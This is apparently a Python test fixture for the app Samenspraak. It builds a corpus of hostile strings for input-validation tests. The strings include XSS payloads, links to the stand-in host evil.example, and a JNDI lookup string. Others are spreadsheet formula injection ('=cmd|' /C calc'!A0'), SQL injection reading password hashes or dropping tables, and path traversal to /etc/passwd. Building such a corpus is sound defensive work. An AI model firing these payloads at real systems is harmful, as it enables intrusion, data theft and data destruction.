"""A corpus of hostile text: what a careless paste, a curious teenager or an attacker might type into
any field of Samenspraak (issue 13). Used by tests/test_hostile_input.py for every staff text
field and domain write function; the phone page and the query string tests can reuse it.

    from tests.hostile import CORPUS, sample

Every entry is a str. Some cannot be stored on purpose (a NUL byte, a lone surrogate, 100 kB of
text in a short field): the app must refuse those with a Dutch message and store nothing.
"""

from __future__ import annotations

import random

# --- markup that would run or fetch something if it were rendered -------------------------------------
_HTML = [
    "<script>alert(1)</script>",
    "<script>alert(document.cookie)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"http://evil.example/track.png\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<body onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">klik</a>",
    "<a href=http://evil.example>gewoon een link</a>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=http://evil.example\">",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--",
    "-->",
    "<![CDATA[x]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<b>vet</b> <i>schuin</i> <u>onder</u>",
    "<w:t>x</w:t><w:p/>",
    "{{7*7}} {% raw %} ${7*7} #{7*7}",
    "<span style=\"color:red\">rood</span>",
    "<br><br><br><hr>",
    "<marquee>hallo</marquee>",
    "<object data=\"javascript:alert(1)\">",
    "<form action=http://evil.example><input type=submit>",
]

# --- Markdown and Streamlit's own directives ----------------------------------------------------
_MARKDOWN = [
    "![x](http://evil.example/x.png)",
    "![](http://evil.example/track.gif?ip=1)",
    "[klik hier](http://evil.example)",
    "[klik](javascript:alert(1))",
    "<http://evil.example>",
    "**vet** _schuin_ ~~doorgehaald~~ `code`",
    "# Kop 1",
    "## Kop 2",
    "> citaat",
    "- lijst\n- lijst",
    "1. genummerd",
    "```\ncodeblok\n```",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "---",
    "***",
    ":red[rood] :blue-background[blauw]",
    ":material/warning: :smile: :rocket:",
    "[![x](http://evil.example/x.png)](http://evil.example)",
    "\\*niet vet\\*",
    "[x]: http://evil.example/ref",
    "<details><summary>open</summary>geheim</details>",
    "==gemarkeerd==",
    "Voetnoot[^1]\n\n[^1]: http://evil.example",
    "\\",
    "\\\\",
    "*",
    "_",
    "`",
    "[",
    "]()",
]

# --- formulas: LaTeX in Markdown, mathtext in matplotlib, spreadsheet formulas ---------------------
_FORMULAS = [
    "$$\\frac{1}{0}$$",
    "$x^2$",
    "$",
    "$$",
    "$$$",
    "$\\alpha$ en $\\beta",
    "Kost $5 en $10",
    "\\(x\\) \\[y\\]",
    "$\\sqrt{}$",
    "$^{^{^{^{}}}}$",
    "=1+1",
    "=HYPERLINK(\"http://evil.example\";\"klik\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1-1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]

# --- URLs ----------------------------------------------------------------------------------------
_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "http://evil.example/" + "a" * 300,
    "//evil.example",
    "http://127.0.0.1:8501/_stcore/health",
    "mailto:x@example.org",
    "https://example.org/?q=<script>",
]

# --- SQL and paths ---------------------------------------------------------------------------------
_SQL = [
    "'; DROP TABLE contribution; --",
    "\" OR 1=1 --",
    "' OR '1'='1",
    "1; SELECT * FROM staff_account",
    "Robert'); DROP TABLE trajectory;--",
    "' UNION SELECT password_hash FROM staff_account --",
    "%",
    "%%",
    "_%_",
    "\\'",
    "E'\\x00'",
    "$$ LANGUAGE plpgsql $$",
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%00",
    "%0d%0aSet-Cookie: x=1",
    "${jndi:ldap://evil.example/a}",
    "{\"$gt\": \"\"}",
    "__proto__",
    "constructor",
    "None",
    "null",
    "undefined",
    "NaN",
    "true",
    "0",
    "-1",
    "1e400",
    "9" * 400,
    "0x7fffffff",
]

# --- Unicode: direction, invisible characters, emoji, scripts, normalisation -------------------------
_UNICODE = [
    "\u202eevil\u202c",  # right-to-left override
    "abc\u202edcba",
    "\u2066isolate\u2069",
    "\u200f\u200e",
    "\u200b",  # zero-width space alone
    "zero\u200bwidth\u200cnon\u200djoiner",
    "\ufeffbom aan het begin",
    "\u2060word joiner",
    "\u00ad",  # soft hyphen alone
    "\u180e",
    "\u3000",  # ideographic space alone
    "\u00a0\u00a0",
    "\u2028line separator\u2029",
    "😀",
    "👨‍👩‍👧‍👦",
    "🏳️‍🌈",
    "🇧🇪🇳🇱",
    "👍🏽",
    "😀" * 200,
    "é",  # composed
    "e\u0301",  # decomposed
    "Z\u0351\u0367\u0312\u033e\u0346a\u0357\u0363l\u0310g\u0358o\u0315",  # zalgo
    "a" + "\u0301" * 500,
    "ﷺ",
    "𒐫",
    "𝕳𝖊𝖑𝖑𝖔",
    "Ⅻ",
    "ǅ",
    "ß",
    "İstanbul",
    "ﬁ",
    "ملاحظة باللغة العربية",
    "עברית עם מספרים 123",
    "中文的回答",
    "日本語の答え",
    "한국어 답변",
    "Ελληνικά",
    "Русский ответ",
    "हिन्दी",
    "ไทย",
    "\U0010ffff",
    "\ufffd",
    "\ufffe\uffff",
    "\x7f",
    "\x1b[31mrood\x1b[0m",  # terminal escape
    "\x07\x08",
    "a\x0bb\x0cc",
    "\x85next line",
    "tab\there",
    "cr\rlf\n",
    "\r\n\r\n",
]

# --- what no database here can store ------------------------------------------------------------------
_UNSTORABLE = [
    "\x00",
    "NUL\x00in het midden",
    "\x00\x00\x00",
    "aan het eind\x00",
    "\ud800",  # a lone high surrogate
    "\udfff lone low surrogate",
    "%s\x00%s",
]

# --- lengths ----------------------------------------------------------------------------------------
_LENGTHS = [
    "",
    " ",
    "   \n\t  ",
    "a",
    "x" * 16,
    "x" * 17,
    "x" * 40,
    "x" * 41,
    "x" * 80,
    "x" * 81,
    "x" * 120,
    "x" * 121,
    "x" * 160,
    "x" * 161,
    "x" * 200,
    "x" * 201,
    "x" * 240,
    "x" * 241,
    "x" * 1000,
    "x" * 1001,
    "x" * 2000,
    "x" * 2001,
    "é" * 161,  # two bytes each: a length in characters, not bytes
    "😀" * 161,  # four bytes each
    "woord " * 2000,
    "x" * 100_000,  # 100 kB
    "Een" + "heel" * 100 + "lang woord",  # one word of 400+ letters (the word cloud)
    ("regel\n" * 3000),
]

# --- plain text with odd punctuation, names, quotes --------------------------------------------------
_ODD = [
    "Dit is een gewoon antwoord.",
    "O'Neil & Zonen",
    "\"aanhalingstekens\" en 'enkele'",
    "«guillemets» „Duits“ ‘krul’",
    "a < b > c & d",
    "100% zeker; 50/50",
    "#hashtag @vermelding",
    "e-mail@example.org",
    "C:\\Users\\ouder\\Desktop",
    "~/.ssh/id_rsa",
    "line one\nline two\n\nline four",
    "   spaties rond   ",
    "meerdere     spaties     ertussen",
    ";;;,,,;;;",
    "\"\"\"",
    "'''",
    "{}[]()<>",
    "...",
    "-",
    "•",
    "N/A",
    "n.b.",
    "?",
    "!!!",
]


def _build() -> list[str]:
    corpus: list[str] = []
    for group in (_HTML, _MARKDOWN, _FORMULAS, _URLS, _SQL, _UNICODE, _UNSTORABLE, _LENGTHS, _ODD):
        corpus.extend(group)
    # Combinations: markup inside a normal sentence, and around invisible or right-to-left text.
    corpus.extend(f"Mijn antwoord: {x}" for x in ("![x](http://evil.example/x.png)", "<script>alert(1)</script>",
                                                   "$$\\frac{1}{0}$$", "\u202eevil", "\x00"))
    return list(dict.fromkeys(corpus))  # each once, in this order


CORPUS: list[str] = _build()
assert len(CORPUS) >= 200, len(CORPUS)


def sample(n: int, *, seed: int = 13) -> list[str]:
    """n strings of the corpus, always the same ones for a seed; the nastiest few always included."""
    always = ["![x](http://evil.example/x.png)", "<script>alert(1)</script>", "$$\\frac{1}{0}$$", "\x00",
              "x" * 100_000, "\u202eevil\u202c"]
    rest = [s for s in CORPUS if s not in always]
    return always + random.Random(seed).sample(rest, max(0, n - len(always)))
